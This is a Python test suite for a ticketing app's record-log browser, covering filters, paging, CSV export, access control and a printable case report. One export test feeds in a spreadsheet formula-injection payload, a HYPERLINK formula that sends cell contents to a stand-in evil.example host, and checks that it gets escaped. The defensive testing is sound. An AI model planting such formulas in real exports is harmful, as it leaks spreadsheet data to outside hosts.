"""The record-log browser: filters, keyset paging, the CSV export, and the printable case report."""

import codecs
import csv
import html
import io
import re
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from tests.conftest import login
from tests.factories import LISTEN, open_case, to_step
from ticketing.cases import services
from ticketing.cases.audit import Event
from ticketing.cases.models import Ticket
from ticketing.cases.services.guarantee import suggest_service_guarantee
from ticketing.extensions import db
from ticketing.spreadsheet import escape_cell

SHANGHAI = ZoneInfo("Asia/Shanghai")  # the staff's default timezone


def _complaint(actor, subject, category, listen=True):
    customer = services.find_or_create_customer("王芳", "wang.fang@example.com", "+86 139 0000 0000")
    ticket = services.take_complaint(
        actor,
        customer=customer,
        subject=subject,
        description="见主题。",
        channel="phone",
        category=category,
        listen=dict(LISTEN) if listen else None,
    )
    db.session.commit()
    return ticket


@pytest.fixture
def history(frozen_clock, agent, supervisor):
    """Two cases whose events fall on three days in Shanghai, by staff, the customer and the scheduler."""
    parcel = _complaint(agent, "快递丢失了", "delivery")  # 2026-11-24 17:00 in Shanghai
    frozen_clock.move(hours=7, minutes=30)  # 2026-11-25 00:30 in Shanghai
    bill = _complaint(None, "Charged twice", "billing", listen=False)
    suggest_service_guarantee(bill, frozen_clock.now)
    db.session.commit()
    frozen_clock.move(hours=1)
    services.add_note(parcel, supervisor, body="Call the courier")
    services.send_message(bill, None, body="Any news?")
    db.session.commit()
    frozen_clock.move(days=2)  # 2026-11-27 in Shanghai
    services.add_note(bill, agent, body="Refund pending")
    db.session.commit()
    return SimpleNamespace(parcel=parcel, bill=bill, agent=agent, supervisor=supervisor)


def _all_events():
    return db.session.execute(
        select(Event, Ticket.reference, Ticket.category).join(Ticket, Ticket.id == Event.ticket_id)
    ).all()


def _listed(response) -> list[int]:
    assert response.status_code == 200
    return [int(ident) for ident in re.findall(r'id="event-(\d+)"', response.get_data(as_text=True))]


def _local_day(event):
    return event.created_at.astimezone(SHANGHAI).date().isoformat()


FILTERS = {
    "reference": (
        lambda h: {"reference": h.parcel.reference.lower()},
        lambda h, e, ref, cat: ref == h.parcel.reference,
    ),
    "category": (lambda h: {"category": "billing"}, lambda h, e, ref, cat: cat == "billing"),
    "action": (lambda h: {"action": "note"}, lambda h, e, ref, cat: e.action == "note"),
    "staff member": (lambda h: {"actor": str(h.agent.id)}, lambda h, e, ref, cat: e.actor_id == h.agent.id),
    "customer": (
        lambda h: {"actor": "customer"},
        lambda h, e, ref, cat: e.actor_id is None and e.actor_name == "customer",
    ),
    "scheduler": (lambda h: {"actor": "scheduler"}, lambda h, e, ref, cat: e.actor_name == "scheduler"),
    "one local day": (
        lambda h: {"date_from": "2026-11-25", "date_to": "2026-11-25"},
        lambda h, e, ref, cat: _local_day(e) == "2026-11-25",
    ),
    "up to a day": (lambda h: {"date_to": "2026-11-24"}, lambda h, e, ref, cat: _local_day(e) <= "2026-11-24"),
    "from a day": (lambda h: {"date_from": "2026-11-26"}, lambda h, e, ref, cat: _local_day(e) >= "2026-11-26"),
    "combined": (
        lambda h: {"category": "billing", "actor": "customer", "action": "message"},
        lambda h, e, ref, cat: cat == "billing" and e.actor_name == "customer" and e.action == "message",
    ),
}


@pytest.mark.parametrize("name", sorted(FILTERS))
def test_each_filter_narrows_the_log_to_the_matching_events(client, history, name):
    args, matches = FILTERS[name]
    expected = {event.id for event, ref, cat in _all_events() if matches(history, event, ref, cat)}
    assert expected and expected != {event.id for event, _ref, _cat in _all_events()}, "the data must discriminate"
    login(client, history.supervisor.email)
    listed = _listed(client.get("/record-log/", query_string=args(history)))
    assert set(listed) == expected and len(listed) == len(expected)


def test_the_log_lists_every_event_newest_first_with_words_and_links(client, history):
    login(client, history.supervisor.email)
    response = client.get("/record-log/")
    events = sorted((event for event, _ref, _cat in _all_events()), key=lambda e: (e.created_at, e.id), reverse=True)
    assert _listed(response) == [event.id for event in events]
    page = response.get_data(as_text=True)
    assert f'href="/tickets/{history.parcel.reference}"' in page
    assert "Internal note" in page and "Call the courier" in page
    assert "Scheduler (automatic)" in page and "Customer" in page and "Ann Agent" in page


def test_a_bad_filter_value_is_explained_and_ignored(client, history):
    login(client, history.supervisor.email)
    response = client.get(
        "/record-log/", query_string={"date_from": "2026-11-26", "date_to": "2026-11-24", "action": "no-such-action"}
    )
    assert "The end of the period comes before its start." in response.get_data(as_text=True)
    assert len(_listed(response)) == 1  # only "from" still applies: one event, on the 27th


def test_a_date_out_of_range_is_explained_not_a_server_error(client, history):
    login(client, history.supervisor.email)
    response = client.get("/record-log/", query_string={"date_from": "0001-01-01", "date_to": "9999-12-31"})
    assert response.get_data(as_text=True).count("Give a date between 1970 and 9000.") == 2
    assert len(_listed(response)) == len(_all_events())
    assert client.get("/record-log/export.csv", query_string={"date_to": "9999-12-31"}).status_code == 200


def _visit_all_pages(client, url, query):
    seen, response = [], client.get(url, query_string=query)
    while True:
        seen += _listed(response)
        following = re.search(r'rel="next" href="([^"]+)"', response.get_data(as_text=True))
        if not following:
            return seen
        response = client.get(html.unescape(following.group(1)))


def test_paging_visits_every_event_exactly_once_in_order(app, client, history):
    app.config["RECORD_LOG_PAGE_SIZE"] = 2  # events share a timestamp: ties must page on id
    login(client, history.supervisor.email)
    seen = _visit_all_pages(client, "/record-log/", {})
    events = sorted((event for event, _ref, _cat in _all_events()), key=lambda e: (e.created_at, e.id), reverse=True)
    assert seen == [event.id for event in events]


def test_paging_keeps_the_filters(app, client, history):
    app.config["RECORD_LOG_PAGE_SIZE"] = 1
    login(client, history.supervisor.email)
    seen = _visit_all_pages(client, "/record-log/", {"category": "billing"})
    billing = {event.id for event, _ref, category in _all_events() if category == "billing"}
    assert len(seen) == len(billing) > 1 and set(seen) == billing


def _export(client, **query):
    response = client.get("/record-log/export.csv", query_string=query)
    assert response.status_code == 200
    return response


def test_the_export_opens_in_excel_with_chinese_text_intact(client, history, make_user):
    reader = make_user("supervisor", locale="zh_CN")
    login(client, reader.email)
    response = _export(client, reference=history.parcel.reference)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="record-log-[\d-]+\.csv"', response.headers["Content-Disposition"])
    assert response.data.startswith(codecs.BOM_UTF8)
    header, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert "事件" in header and "案件" in header and "操作人" in header
    assert len(rows) == sum(1 for _e, ref, _c in _all_events() if ref == history.parcel.reference)
    opened = rows[-1]  # oldest last
    assert opened[0] == "2026-11-24T09:00:00+00:00" and opened[1] == "2026-11-24 17:00:00"
    assert opened[2:5] == [history.parcel.reference, "配送", "快递丢失了"]
    assert opened[5] == "Ann Agent" and opened[6] == "已立案" and "快递丢失了" in opened[7]


def test_the_export_applies_the_filters_and_names_who_acted(client, history):
    login(client, history.supervisor.email)
    _header, *rows = list(csv.reader(io.StringIO(_export(client, category="billing").data.decode("utf-8-sig"))))
    assert {row[2] for row in rows} == {history.bill.reference}
    assert [row[5] for row in rows] == ["Ann Agent", "Customer", "Scheduler (automatic)", "Customer"]
    assert rows[1][7].startswith("Text: Any news?")


def test_exported_cells_that_look_like_formulas_are_escaped(client, frozen_clock, supervisor, make_user):
    plus = make_user("agent", name="+1 Agent")
    ticket = _complaint(plus, '=HYPERLINK("http://evil.example/?x="&A1,"Open")', "product")
    services.add_note(ticket, plus, body="@SUM(A1:A9)")
    db.session.commit()
    login(client, supervisor.email)
    _header, *rows = list(csv.reader(io.StringIO(_export(client, reference=ticket.reference).data.decode("utf-8-sig"))))
    assert {row[4] for row in rows} == {'\'=HYPERLINK("http://evil.example/?x="&A1,"Open")'}
    assert {row[5] for row in rows} == {"'+1 Agent"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Hello", "案件 C-2026-000001", "1-2", ""])
def test_an_ordinary_cell_is_left_alone(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("url", ["/record-log/", "/record-log/export.csv"])
def test_agents_may_not_browse_or_export_the_record_log(client, agent, url):
    login(client, agent.email)
    assert client.get(url).status_code == 403


def test_the_report_shows_the_six_steps_compensation_and_the_whole_log(client, agent, supervisor):
    ticket = open_case(agent)
    to_step(ticket, agent, "review", approver=supervisor, amount=120)
    services.record_review(
        ticket,
        agent,
        version=ticket.version,
        summary="Kettle replaced within a day",
        lesson="Check seals before shipping",
    )
    services.add_note(ticket, agent, body="Customer thanked us")
    db.session.commit()
    login(client, agent.email)  # any staff member may print a case
    response = client.get(f"/record-log/cases/{ticket.reference}/report")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    for number, step in enumerate(
        [
            "Accept and listen",
            "Empathise and apologise",
            "Analyse the cause",
            "Propose a resolution",
            "Follow up",
            "Record and review",
        ],
        start=1,
    ):
        assert f"{number} · {step}" in page
    assert "Faulty seal" in page and "Replace the kettle" in page and "Kettle replaced within a day" in page
    assert "Compensation against estimated loss" in page and "100 %" in page  # refund 120 for a loss of 120
    assert "Record log" in page and "Cause analysed (step 3)" in page and "Customer thanked us" in page
    assert "data-print" in page and "<script>" not in page  # the CSP forbids inline script
    events = db.session.scalars(select(Event).where(Event.ticket_id == ticket.id)).all()
    assert page.count("<time datetime=") >= len(events)


def test_the_case_page_links_to_its_report(client, agent):
    ticket = open_case(agent)
    login(client, agent.email)
    page = client.get(f"/tickets/{ticket.reference}").get_data(as_text=True)
    assert f'href="/record-log/cases/{ticket.reference}/report"' in page


def test_the_report_of_an_unknown_case_is_not_found(client, supervisor):
    login(client, supervisor.email)
    assert client.get("/record-log/cases/C-1999-000001/report").status_code == 404


def test_the_log_names_the_assignee_not_their_email(client, agent, supervisor):
    ticket = open_case(agent)
    login(client, supervisor.email)
    page = client.get(f"/record-log/?reference={ticket.reference}").get_data(as_text=True)
    assert "Assignee" in page and agent.name in page and agent.email not in page
